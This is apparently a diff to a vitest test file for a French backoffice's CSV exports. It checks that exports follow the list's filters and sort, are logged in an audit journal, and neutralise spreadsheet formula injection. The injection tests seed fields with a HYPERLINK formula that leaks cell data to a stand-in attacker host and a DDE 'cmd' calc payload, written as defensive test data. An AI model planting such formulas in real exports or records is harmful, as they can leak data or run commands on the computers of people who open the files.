@@ -1,6 +1,15 @@
 import { beforeAll, describe, expect, it } from 'vitest'
 import type { PartnerImportPreview, PartnerImportResult } from '@/contract/backoffice.ts'
-import type { AuditPage, AuthUser, DiscountOffer, Partner, PartnerPage } from '@/contract/schemas.ts'
+import { sql } from 'kysely'
+import type {
+  AuditEntry,
+  AuditPage,
+  AuthUser,
+  DiscountOffer,
+  Partner,
+  PartnerPage,
+  UserPage,
+} from '@/contract/schemas.ts'
 import { apiPaths } from '@/contract/paths.ts'
 import { couponUseStatus, createOffer, createPartner, fileForm, adminServerForFile } from './helpers.ts'
 
@@ -86,13 +95,13 @@ describe('CSV exports', () => {
     expect(uses).toHaveLength(2)
     expect(uses[0]).toMatch(
       new RegExp(
-        `^\\d\\d/\\d\\d/\\d{4} \\d\\d:\\d\\d;Alice Martin;alice@test.fr;"Boulangerie; « Le Pain »";${partner.partnerId.id};-10 %;${offer.id.id};oui;\\d\\d/\\d\\d/\\d{4} \\d\\d:\\d\\d$`,
+        `^\\d\\d/\\d\\d/\\d{4} \\d\\d:\\d\\d;Alice Martin;alice@test.fr;"Boulangerie; « Le Pain »";${partner.partnerId.id};'-10 %;${offer.id.id};oui;\\d\\d/\\d\\d/\\d{4} \\d\\d:\\d\\d$`,
       ),
     )
     expect(uses[1]!.endsWith(';non;')).toBe(true)
   })
 
-  it('streams a table larger than one batch, in key order', async () => {
+  it('streams a table larger than one batch, in the list’s order', async () => {
     for (let i = 0; i < 3; i++) await t.api.register({ email: `batch-${i}@test.fr` })
     const csv = [
       'Dénomination;Description;Adresse;Ville;Latitude;Longitude;Email;Téléphone;Catégories',
@@ -106,14 +115,24 @@ describe('CSV exports', () => {
       raw: fileForm(csv, 'lot.csv', 'text/csv'),
     })
     expect(res.status).toBe(201)
-    const { bytes } = await download('/api/exports/partners.csv')
+    const { bytes } = await download('/api/exports/partners.csv?sort=-name')
     const ids = lines(bytes.toString('utf8'))
       .slice(1)
       .filter((line) => /^\d+;/.test(line))
       .map((line) => Number(line.split(';')[0]))
     expect(ids.length).toBeGreaterThanOrEqual(1201)
-    expect(ids).toEqual([...ids].sort((a, b) => a - b))
     expect(new Set(ids).size).toBe(ids.length)
+    // Batch after batch, the rows keep the order of the list's pages for the same sort.
+    const listed: number[] = []
+    for (let page = 0; listed.length < ids.length; page++) {
+      const res = await t.api.get<PartnerPage>(
+        `/api/partners?sort=-name&pageSize=100&page=${page}`,
+        t.asAdmin(),
+      )
+      listed.push(...res.body.items.map((p) => p.partnerId.id))
+      if (res.body.items.length === 0) break
+    }
+    expect(ids).toEqual(listed)
   })
 
   it('admin only: 401 without a token, 403 for a user', async () => {
@@ -334,5 +353,199 @@ describe('partner import', () => {
 
     expect((await send('/api/imports/partners/preview', header, alice.access_token)).status).toBe(403)
     expect((await t.api.request('POST', '/api/imports/partners', { raw: fileForm(header) })).status).toBe(401)
+  })
+})
+
+/** The Journal's newest entry. */
+const latestEntry = async () =>
+  (await t.api.get<AuditPage>(`${apiPaths.audit()}?pageSize=1`, t.asAdmin())).body.items[0]!
+
+describe('CSV formula injection (CWE-1236)', () => {
+  const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
+  let mallory: AuthUser
+  let trap: Partner
+
+  beforeAll(async () => {
+    // Text that starts like a formula is still a name: registration and the partner form take it as typed.
+    mallory = await t.api.register({ firstname: hyperlink, lastname: '+SUM(1;2)', email: 'mallory@test.fr' })
+    expect(mallory).toMatchObject({ firstname: hyperlink, lastname: '+SUM(1;2)' })
+    trap = await createPartner(t.api, t.admin, {
+      name: '@Piège à tableur',
+      representativeFirstName: "=cmd|' /C calc'!A0",
+      representativeLastName: '-Dupont',
+      phone: '+33 4 91 00 00 00',
+      location: { address: '1 quai Ouest', city: 'Brest', position: { lat: 48.39, lng: -4.4861 } },
+    })
+    const trapOffer = await createOffer(t.api, t.admin, trap.partnerId.id, {
+      status: 'ENABLED',
+      libelle: '=2+3',
+      expirationDate: null,
+    })
+    expect(await couponUseStatus(t.api, mallory, mallory, trap, trapOffer)).toBe(200)
+    const given = await t.api.put(
+      apiPaths.reactivateOffer(mallory.userId.id, trapOffer.id.id),
+      { motif: '@SUM(1+1)*cmd' },
+      t.asAdmin(),
+    )
+    expect(given.status).toBe(200)
+  })
+
+  it('users: the names are written with a leading quote', async () => {
+    const line = lines((await download('/api/exports/users.csv?q=mallory')).bytes.toString('utf8'))[1]!
+    expect(
+      line.startsWith(
+        `${mallory.userId.id};"'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"")";"'+SUM(1;2)";`,
+      ),
+    ).toBe(true)
+    expect(line).toMatch(/;mallory@test\.fr;Actif;Utilisateur;\d\d\/\d\d\/\d{4};1$/)
+  })
+
+  it('partners: name, manager and phone quoted; a negative longitude stays a number', async () => {
+    const text = (await download('/api/exports/partners.csv?q=piege')).bytes.toString('utf8')
+    const line = lines(text)[1]!
+    expect(line).toContain(`${trap.partnerId.id};'@Piège à tableur;`)
+    expect(line).toContain(
+      `;48,39;-4,4861;contact@partenaire.fr;'+33 4 91 00 00 00;'=cmd|' /C calc'!A0;'-Dupont;`,
+    )
+  })
+
+  it('coupon uses: the user, the coupon and the partner quoted', async () => {
+    const text = (await download('/api/exports/coupon-uses.csv')).bytes.toString('utf8')
+    const line = lines(text).find((row) => row.includes('mallory@test.fr'))!
+    expect(line).toContain(
+      `;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"") +SUM(1;2)";mallory@test.fr;'@Piège à tableur;${trap.partnerId.id};'=2+3;`,
+    )
+  })
+
+  it('journal: the motif quoted', async () => {
+    const text = (await download(`${apiPaths.auditExport()}?action=coupon.reactivate`)).bytes.toString('utf8')
+    expect(lines(text).find((row) => row.includes('mallory') || row.includes('HYPERLINK'))).toContain(
+      ";'@SUM(1+1)*cmd;",
+    )
+  })
+
+  it('the import takes the export back as it was: exactly the quote the export added goes', async () => {
+    const exported = (await download('/api/exports/partners.csv?q=piege')).bytes
+    const preview = (await send('/api/imports/partners/preview', exported)).body as PartnerImportPreview
+    expect(preview).toMatchObject({ errorCount: 0, updateCount: 1 })
+    expect(preview.rows[0]).toMatchObject({ partnerId: trap.partnerId.id, name: '@Piège à tableur' })
+    expect((await send('/api/imports/partners', exported)).status).toBe(201)
+    const after = await t.api.get<Partner>(apiPaths.partner(trap.partnerId.id), t.asAdmin())
+    expect(after.body).toMatchObject({
+      name: '@Piège à tableur',
+      representativeFirstName: "=cmd|' /C calc'!A0",
+      representativeLastName: '-Dupont',
+      phone: '+33 4 91 00 00 00',
+      location: { position: { lat: 48.39, lng: -4.4861 } },
+    })
+    // A file written by hand, without quotes, still imports such names as text.
+    const handWritten = [
+      header,
+      '=Chez Léon;Une description;3 rue Basse;13100;Aix;43,52;5,44;leon@test.fr;04 42 00 00 00;Restaurants;Actif',
+    ].join('\r\n')
+    const created = await send('/api/imports/partners/preview', handWritten)
+    expect((created.body as PartnerImportPreview).rows[0]).toMatchObject({ name: '=Chez Léon' })
+  })
+})
+
+describe('exports follow the list: same search, filters and sort; each one in the Journal', () => {
+  beforeAll(async () => {
+    for (const [name, city, status] of [
+      ['Bouchon Lyonnais', 'Lyon', 'ACTIF'],
+      ['Atelier de Lyon', 'Lyon', 'ACTIF'],
+      ['Ancien Lyonnais', 'Lyon', 'DESACTIVE'],
+      ['Calanque', 'Marseille', 'ACTIF'],
+    ] as const)
+      await createPartner(t.api, t.admin, {
+        name,
+        status,
+        location: { address: '1 place Bellecour', city, position: { lat: 45.75, lng: 4.83 } },
+      })
+  })
+
+  const names = (text: string) =>
+    lines(text)
+      .slice(1)
+      .filter(Boolean)
+      .map((line) => line.split(';')[1])
+
+  it('partners: ?q=lyon&status=ACTIF&sort=-name gives the list’s rows, and the Journal says so', async () => {
+    const query = 'q=lyon&status=ACTIF&sort=-name'
+    const list = (await t.api.get<PartnerPage>(`/api/partners?${query}&pageSize=100`, t.asAdmin())).body
+    expect(list.items.map((p) => p.name)).toEqual(['Bouchon Lyonnais', 'Atelier de Lyon'])
+    const { res, bytes } = await download(`/api/exports/partners.csv?${query}`)
+    expect(res.status).toBe(200)
+    expect(names(bytes.toString('utf8'))).toEqual(list.items.map((p) => p.name))
+    expect(await latestEntry()).toMatchObject({
+      action: 'data.export',
+      targetType: 'export',
+      targetId: null,
+      targetLabel: 'Partenaires, 2 lignes',
+      actor: { id: t.admin.userId.id },
+      after: { export: 'Partenaires', filters: { q: 'lyon', status: 'ACTIF', sort: '-name' }, rows: 2 },
+    })
+  })
+
+  it('users: search, role and sort as the list; e-mail addresses leaving are recorded', async () => {
+    const query = 'q=test.fr&role=ROLE_USER&sort=-email'
+    const list = (await t.api.get<UserPage>(`/api/users?${query}&pageSize=100`, t.asAdmin())).body
+    expect(list.items.some((u) => u.email === 'mallory@test.fr')).toBe(true)
+    expect(list.items.some((u) => u.roles.includes('ROLE_ADMIN'))).toBe(false)
+    const text = (await download(`/api/exports/users.csv?${query}`)).bytes.toString('utf8')
+    const emails = lines(text)
+      .slice(1)
+      .filter(Boolean)
+      .map((line) => line.split(';').at(-5))
+    expect(emails).toEqual(list.items.map((u) => u.email))
+    const entry: AuditEntry = await latestEntry()
+    expect(entry).toMatchObject({
+      action: 'data.export',
+      targetLabel: `Utilisateurs, ${list.total} lignes`,
+      after: { export: 'Utilisateurs', filters: { q: 'test.fr', role: 'ROLE_USER', sort: '-email' } },
+    })
+  })
+
+  it('coupon uses and the Journal’s own export are recorded; the latter’s file stops before its entry', async () => {
+    await download('/api/exports/coupon-uses.csv')
+    const uses = await latestEntry()
+    expect(uses).toMatchObject({ action: 'data.export', after: { export: 'Utilisations de coupons' } })
+    const { bytes } = await download(`${apiPaths.auditExport()}?action=data.export`)
+    const rows = lines(bytes.toString('utf8')).slice(1).filter(Boolean)
+    const own = await latestEntry()
+    expect(own).toMatchObject({
+      action: 'data.export',
+      after: { export: 'Journal', filters: { action: 'data.export' }, rows: rows.length },
+    })
+    expect(rows[0]).toContain(';Export CSV;Export (Utilisations de coupons, ')
+  })
+
+  it('a sort the list refuses is refused in French, and nothing is recorded', async () => {
+    const before = await latestEntry()
+    for (const path of ['/api/exports/partners.csv?sort=siren', '/api/exports/users.csv?role=ROLE_ROOT']) {
+      const res = await t.api.get<{ message: string }>(path, t.asAdmin())
+      expect(res.status, path).toBe(400)
+      expect(res.body.message).toMatch(/[éè«]/)
+    }
+    expect((await latestEntry()).id).toBe(before.id)
+  })
+})
+
+describe('dates and times in APP_TIME_ZONE (Europe/Paris by default)', () => {
+  it('a use at 06:07 UTC in winter is 07:07; near midnight UTC the Paris day is written', async () => {
+    const db = t.server.handle.db
+    const someone = await t.api.register({ email: 'horaires@test.fr' })
+    await sql`insert into offer_uses (user_id, offer_id, used_at, reactivated_at)
+      values (${someone.userId.id}, ${offer.id.id}, '2026-01-15T06:07:00Z', '2026-03-31T22:30:00Z')`.execute(
+      db,
+    )
+    await sql`update partners set created_at = '2026-01-15T23:30:00Z' where id = ${partner.partnerId.id}`.execute(
+      db,
+    )
+    const uses = (await download('/api/exports/coupon-uses.csv')).bytes.toString('utf8')
+    expect(lines(uses).find((line) => line.includes('horaires@test.fr'))).toMatch(
+      /^15\/01\/2026 07:07;.*;oui;01\/04\/2026 00:30$/,
+    )
+    const partners = (await download('/api/exports/partners.csv?q=pain')).bytes.toString('utf8')
+    expect(lines(partners)[1]).toMatch(/;16\/01\/2026;\d\d\/\d\d\/\d{4}$/)
   })
 })
